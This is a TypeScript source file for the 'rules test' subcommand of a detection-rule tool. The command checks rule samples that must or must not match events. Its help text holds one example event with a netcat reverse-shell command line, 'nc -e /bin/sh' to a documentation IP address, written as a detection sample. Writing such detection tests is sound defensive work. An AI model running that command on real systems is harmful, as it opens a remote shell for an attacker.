import { Command } from 'commander';
import { exitCode, formatProblem } from '../model/errors.ts';
import type { Problem } from '../model/rule.ts';
import { type RuleTests, type SampleOutcome, testRules } from '../rules-test.ts';
import { visible } from '../text/visible.ts';
import type { CommandIo } from './io.ts';
import { createLineOutput } from './output.ts';

interface TestOptions {
  readonly config?: string;
  readonly require?: true;
  readonly json?: true;
}

/**
 * `sigmond rules test`: runs the samples that stand beside rules.
 *
 * @param configuredRules the rule paths of a configuration file, of the default one without a path
 */
export function rulesTestCommand(
  io: CommandIo,
  configuredRules: (configPath: string | undefined) => Promise<readonly string[]>,
): Command {
  return new Command('test')
    .description('Run the samples beside rules: events that each must and must not match.')
    .argument('[paths...]', 'rule files or folders instead of the configured ones')
    .option('-c, --config <file>', 'configuration whose rules to test')
    .option('--require', 'a rule without samples is a failure too')
    .option('--json', 'answer as one JSON object')
    .addHelpText('after', help)
    .action(async (paths: readonly string[], options: TestOptions) => {
      const tests = await testRules(paths.length > 0 ? paths : await configuredRules(options.config));
      const isOk = isPassed(tests, options.require ?? false);
      await write(io.stderr, tests.problems.map(formatProblem));
      await write(io.stdout, options.json ? [asJson(tests, isOk)] : asText(tests, options.require ?? false));
      io.setExitCode(isOk ? exitCode.ok : exitCode.runtime);
    });
}

const help = `
The samples of my-rule.yml stand in my-rule.samples.yaml:
  matches:
    - name: a shell on a socket
      fields: {Image: /usr/bin/nc, CommandLine: nc -e /bin/sh 192.0.2.7 4444}
  misses:
    - fields: {Image: /usr/bin/nc, CommandLine: nc -zv example.org 443}
The exit code is 0 when all of them hold, else 1.

Example:
  $ sigmond rules test /etc/sigmond/rules`;

function isPassed({ outcomes, untested, problems }: RuleTests, requireSamples: boolean): boolean {
  const isWrong = ({ severity }: Problem) => severity === 'error';
  return outcomes.every(holds) && !problems.some(isWrong) && !(requireSamples && untested.length > 0);
}

function holds({ sample, matched }: SampleOutcome): boolean {
  return sample.mustMatch === (matched !== undefined);
}

async function write(stream: NodeJS.WritableStream, lines: readonly string[]): Promise<void> {
  const output = createLineOutput(stream);
  for (const line of lines) output.line(visible(line));
  await output.end();
}

function asText(tests: RuleTests, requireSamples: boolean): readonly string[] {
  const failed = tests.outcomes.filter((outcome) => !holds(outcome));
  const rules = new Set(tests.outcomes.map(({ subject }) => subject.meta.id)).size;
  const lines = failed.flatMap(failureLines);
  if (requireSamples) lines.push(...tests.untested.map(({ path, title }) => `${path}: '${title}' has no samples`));
  const held = tests.outcomes.length - failed.length;
  lines.push(
    `${count(rules, 'rule')} with ${count(tests.outcomes.length, 'sample')}: ${held} as they should be, ${failed.length} not`,
  );
  if (tests.untested.length > 0) lines.push(`${count(tests.untested.length, 'rule')} without samples`);
  return lines;
}

function failureLines({ sample, subject, events, matched }: SampleOutcome): readonly string[] {
  const { path, line, column } = sample.at;
  const what = sample.mustMatch ? 'must match and does not' : 'must not match and does';
  const shown = matched ?? events.at(-1);
  return [
    `${path}:${line}:${column}: '${sample.name}' ${what}: ${subject.meta.title}`,
    ...(shown ? [`  ${JSON.stringify(shown.fields)}`] : []),
  ];
}

function asJson({ outcomes, untested, problems }: RuleTests, isOk: boolean): string {
  const failures = outcomes.filter((outcome) => !holds(outcome));
  return JSON.stringify({
    ok: isOk,
    samples: outcomes.length,
    failed: failures.map(({ sample: { name, at, mustMatch }, subject, events }) => ({
      rule: subject.meta.id,
      name,
      ...at,
      mustMatch,
      events: events.map(({ logsource, fields, message }) => ({ logsource, fields, message })),
    })),
    untested: untested.map(({ id, title, path }) => ({ id, title, path })),
    problems: problems.map(({ severity, at, text }) => ({ severity, ...at, text })),
  });
}

function count(n: number, noun: string): string {
  return `${n} ${noun}${n === 1 ? '' : 's'}`;
}
